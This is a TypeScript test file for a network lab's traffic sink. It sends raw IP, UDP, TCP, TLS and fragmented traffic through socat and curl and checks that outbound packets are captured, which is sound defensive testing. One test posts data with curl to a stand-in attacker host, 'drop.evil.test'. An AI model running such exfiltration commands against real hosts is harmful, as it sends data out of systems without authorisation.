import t from 'tap'
import { openLab } from '../lab/lab.ts'
import { whyNoLab } from '../lab/requirements.ts'

/** Sends one payload to an address as a bare IP protocol. */
const raw = (address: string, protocol: number) => {
  const family = address.includes(':') ? 6 : 4
  return ['-u', '-', `IP${family}-SENDTO:${family === 6 ? `[${address}]` : address}:${protocol}`]
}

await t.test('the sink', { skip: whyNoLab() }, async t => {
  await using lab = await openLab({ services: [] })
  const { host, sink } = lab

  await t.test('is empty before anything is sent', async t => {
    t.same(await sink.lines(), [])
    t.same(await lab.uplink.count(), 0)
  })

  const protocols = [
    ['icmp', 1],
    ['gre', 47],
    ['esp', 50],
    ['sctp', 132],
    ['dccp', 33],
    ['udplite', 136],
    ['ipip', 4],
    ['ip', 253],
  ] as const
  for (const [name, number] of protocols) {
    for (const address of ['9.9.9.9', '2620:fe::9']) {
      if (name === 'icmp' && address.includes(':')) continue
      await t.test(`sees ${name} to ${address}`, async t => {
        await sink.clear()
        const input = `payload-of-${name}-${'x'.repeat(24)}`
        const { exitCode, stderr } = await host.exec('socat', raw(address, number), { input })
        t.equal(exitCode, 0, stderr)
        t.match(await sink.packets(), [{ protocol: name, ipProtocol: number, destination: address }])
        t.ok(await sink.contains(`payload-of-${name}`))
        t.equal((await lab.uplink.count({ destination: address, protocol: name })) > 0, true)
      })
    }
  }

  await t.test('answers UDP on any port, both families', async t => {
    await sink.clear()
    for (const address of ['9.9.9.9', '[2620:fe::9]']) {
      const { stdout, stderr } = await host.exec('socat', ['-t', '2', '-', `UDP:${address}:4433`], {
        input: 'quic-like',
        timeoutMs: 5_000,
      })
      t.equal(stdout, 'quic-like', stderr)
    }
    t.equal(await sink.count({ protocol: 'udp', port: 4433, contains: 'quic-like' }), 2)
  })

  await t.test('answers TCP on any port and says where it was meant to go', async t => {
    await sink.clear()
    for (const address of ['10.1.2.3', '[2620:fe::9]']) {
      const { stdout, stderr } = await host.exec('socat', ['-t', '2', '-', `TCP:${address}:6667`], {
        input: 'hello over tcp',
        timeoutMs: 5_000,
      })
      t.equal(stdout, 'hello over tcp', stderr)
    }
    const connections = await sink.connections()
    t.same(
      connections.map(({ address, port }) => `${address} ${port}`),
      ['10.1.2.3 6667', '2620:fe::9 6667'],
    )
    t.same(
      connections.map(({ received }) => Buffer.from(received).toString()),
      ['hello over tcp', 'hello over tcp'],
    )
  })

  await t.test('opens TLS, with a name and without one', async t => {
    await sink.clear()
    t.equal((await host.exec('curl', ['-sS', 'https://drop.evil.test/x', '-d', 'inside-tls-1'])).exitCode, 0)
    t.equal((await host.exec('curl', ['-sSk', 'https://9.9.9.9:8443/x', '-d', 'inside-tls-2'])).exitCode, 0)
    t.ok(await sink.contains('inside-tls-1'))
    t.ok(await sink.contains('inside-tls-2'))
    t.notOk(await sink.contains('inside-tls-3'))
    t.match(await sink.connections(), [{ sni: 'drop.evil.test' }, { address: '9.9.9.9', port: 8443, sni: undefined }])
  })

  await t.test('knows text that is split over packets', async t => {
    await sink.clear()
    await host.exec('sh', ['-c', '(printf first-; sleep 0.05; printf second; sleep 0.05) | socat - TCP:9.9.9.9:6667'])
    t.ok(await sink.contains('first-second'))
  })

  await t.test('sees every part of a fragmented packet', async t => {
    await sink.clear()
    await host.exec('socat', ['-b', '8000', '-u', '-', 'UDP:9.9.9.9:4433'], { input: 'f'.repeat(4_000) })
    const parts = await sink.packets({ protocol: 'udp' })
    t.equal(parts.length, 3)
    t.ok(parts.every(({ fragment }) => fragment))
    t.same(
      parts.map(({ destinationPort }) => destinationPort),
      [4433, undefined, undefined],
    )
  })

  await t.test('sees private, carrier and odd addresses', async t => {
    for (const address of [
      '192.168.7.7',
      '172.16.1.1',
      '100.64.1.1',
      '64:ff9b::102:304',
      '2002:102:304::1',
      'fd99::1',
    ]) {
      await sink.clear()
      await host.exec('socat', ['-u', '-', address.includes(':') ? `UDP6:[${address}]:99` : `UDP4:${address}:99`], {
        input: 'x',
      })
      t.match(await sink.packets({ protocol: 'udp' }), [{ destination: address }], address)
    }
  })

  await t.test('does not see what goes to a known origin; the uplink does', async t => {
    await sink.clear()
    await lab.uplink.clear()
    await host.exec('socat', ['-u', '-', `UDP4:${lab.addresses.shared.v4}:443`], { input: 'quic to an origin' })
    t.same(await sink.lines(), [])
    t.equal(await lab.uplink.count({ protocol: 'udp', destination: lab.addresses.shared.v4, port: 443 }), 1)
  })
})
